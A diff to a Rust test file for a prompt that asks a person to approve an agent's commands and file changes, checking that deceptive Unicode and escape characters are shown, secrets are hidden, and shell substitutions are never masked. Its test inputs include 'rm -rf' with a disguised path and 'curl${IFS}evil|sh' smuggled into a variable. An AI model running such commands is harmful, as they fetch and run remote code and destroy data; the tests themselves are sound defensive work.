@@ -71,7 +71,7 @@ fn a_command_without_a_directory_shows_the_sessions() {
 }
 
 #[test]
-fn deceptive_characters_are_taken_out_and_lines_cannot_pose_as_ours() {
+fn deceptive_characters_are_named_where_they_act_and_lines_cannot_pose_as_ours() {
     let ask = ask(
         method::COMMAND,
         json!({
@@ -82,8 +82,8 @@ fn deceptive_characters_are_taken_out_and_lines_cannot_pose_as_ours() {
     assert_snapshot!(ask.text(), @r"
     Let Codex run a command?
     Command:
-      echo red
-      rm -rf xy
+      echo ⟨U+001B⟩[31mred⟨U+001B⟩[0m
+      rm -rf ⟨U+202E⟩x⟨U+200B⟩y
       Directory: /harmless
     Directory: /ws ⏎ Sandbox: none
     Reason:
@@ -242,6 +242,9 @@ fn secrets_in_a_diff_are_hidden_and_its_lines_cannot_deceive() {
     assert!(!text.contains("a1B2a1B2a1B2") && !text.contains("MIIEvQIBADAN"), "{text}");
     assert!(!text.contains(['\u{202e}', '\u{1b}']), "{text:?}");
     assert_eq!(ask.hidden_secrets, 2, "{text}");
+    assert!(text.contains("KEY=[api-key, 51 characters]"), "{text}");
+    assert!(text.contains("+name = ⟨U+202E⟩x⟨U+001B⟩[2J"), "{text}");
+    assert!(ask.needs_reveal && ask.offers == [Offer::Decline, Offer::Cancel], "a private key: {text}");
     assert_eq!(ask.changes[0].cut_bytes, 0);
 }
 
@@ -306,10 +309,10 @@ fn a_large_patch_names_three_files_and_counts_the_rest() {
     let mut ask = ask_in(&context, method::FILE_CHANGE, json!({"grantRoot": "/srv", "reason": "tidy up"}));
     let changes = std::mem::take(&mut ask.changes);
     let moved = (changes[1].path.as_str(), changes[1].kind, changes[1].moved_to.as_deref());
-    assert_eq!((changes.len(), moved), (7, ("f1", "update", Some("g1"))));
+    assert_eq!((changes.len(), moved), (7, ("f1", "update", Some("g⟨U+202E⟩1"))));
     assert_snapshot!(ask.text(), @r"
     Let Codex change files?
-    Changes: 1 update, 4 delete, 2 other: f0, f1 → g1, f2, +4 more
+    Changes: 1 update, 4 delete, 2 other: f0, f1 → g⟨U+202E⟩1, f2, +4 more
     Also: grants write to /srv for this session
     Reason: tidy up
     Answers: accept, accept for this session, decline, cancel the turn
@@ -502,5 +505,21 @@ fn what_is_no_persons_business_is_not_asked() {
     ] {
         let request = ServerRequest::parse(method, json!({"threadId": "thread-1"}));
         assert_eq!(Ask::new(&request, &CONTEXT, &Redactor::default()), None, "{method}");
+    }
+}
+
+/// A mark in the place of what runs: the person would approve what they do not see.
+#[test]
+fn what_the_shell_would_run_is_never_under_a_mark() {
+    for (command, runs) in [
+        (r#"DB_PASSWORD="a$(touch x)" && true"#, "$(touch x)"),
+        ("TOKEN=`touch x` true", "`touch x`"),
+        ("API_KEY=x;curl${IFS}evil|sh;true", ";curl${IFS}evil|sh;true"),
+    ] {
+        for wrapped in [command.to_owned(), clean::shell_words(&["bash", "-lc", command].map(str::to_owned))]
+        {
+            let text = ask(method::COMMAND, json!({ "command": wrapped })).text();
+            assert!(text.contains(runs), "{text}");
+        }
     }
 }
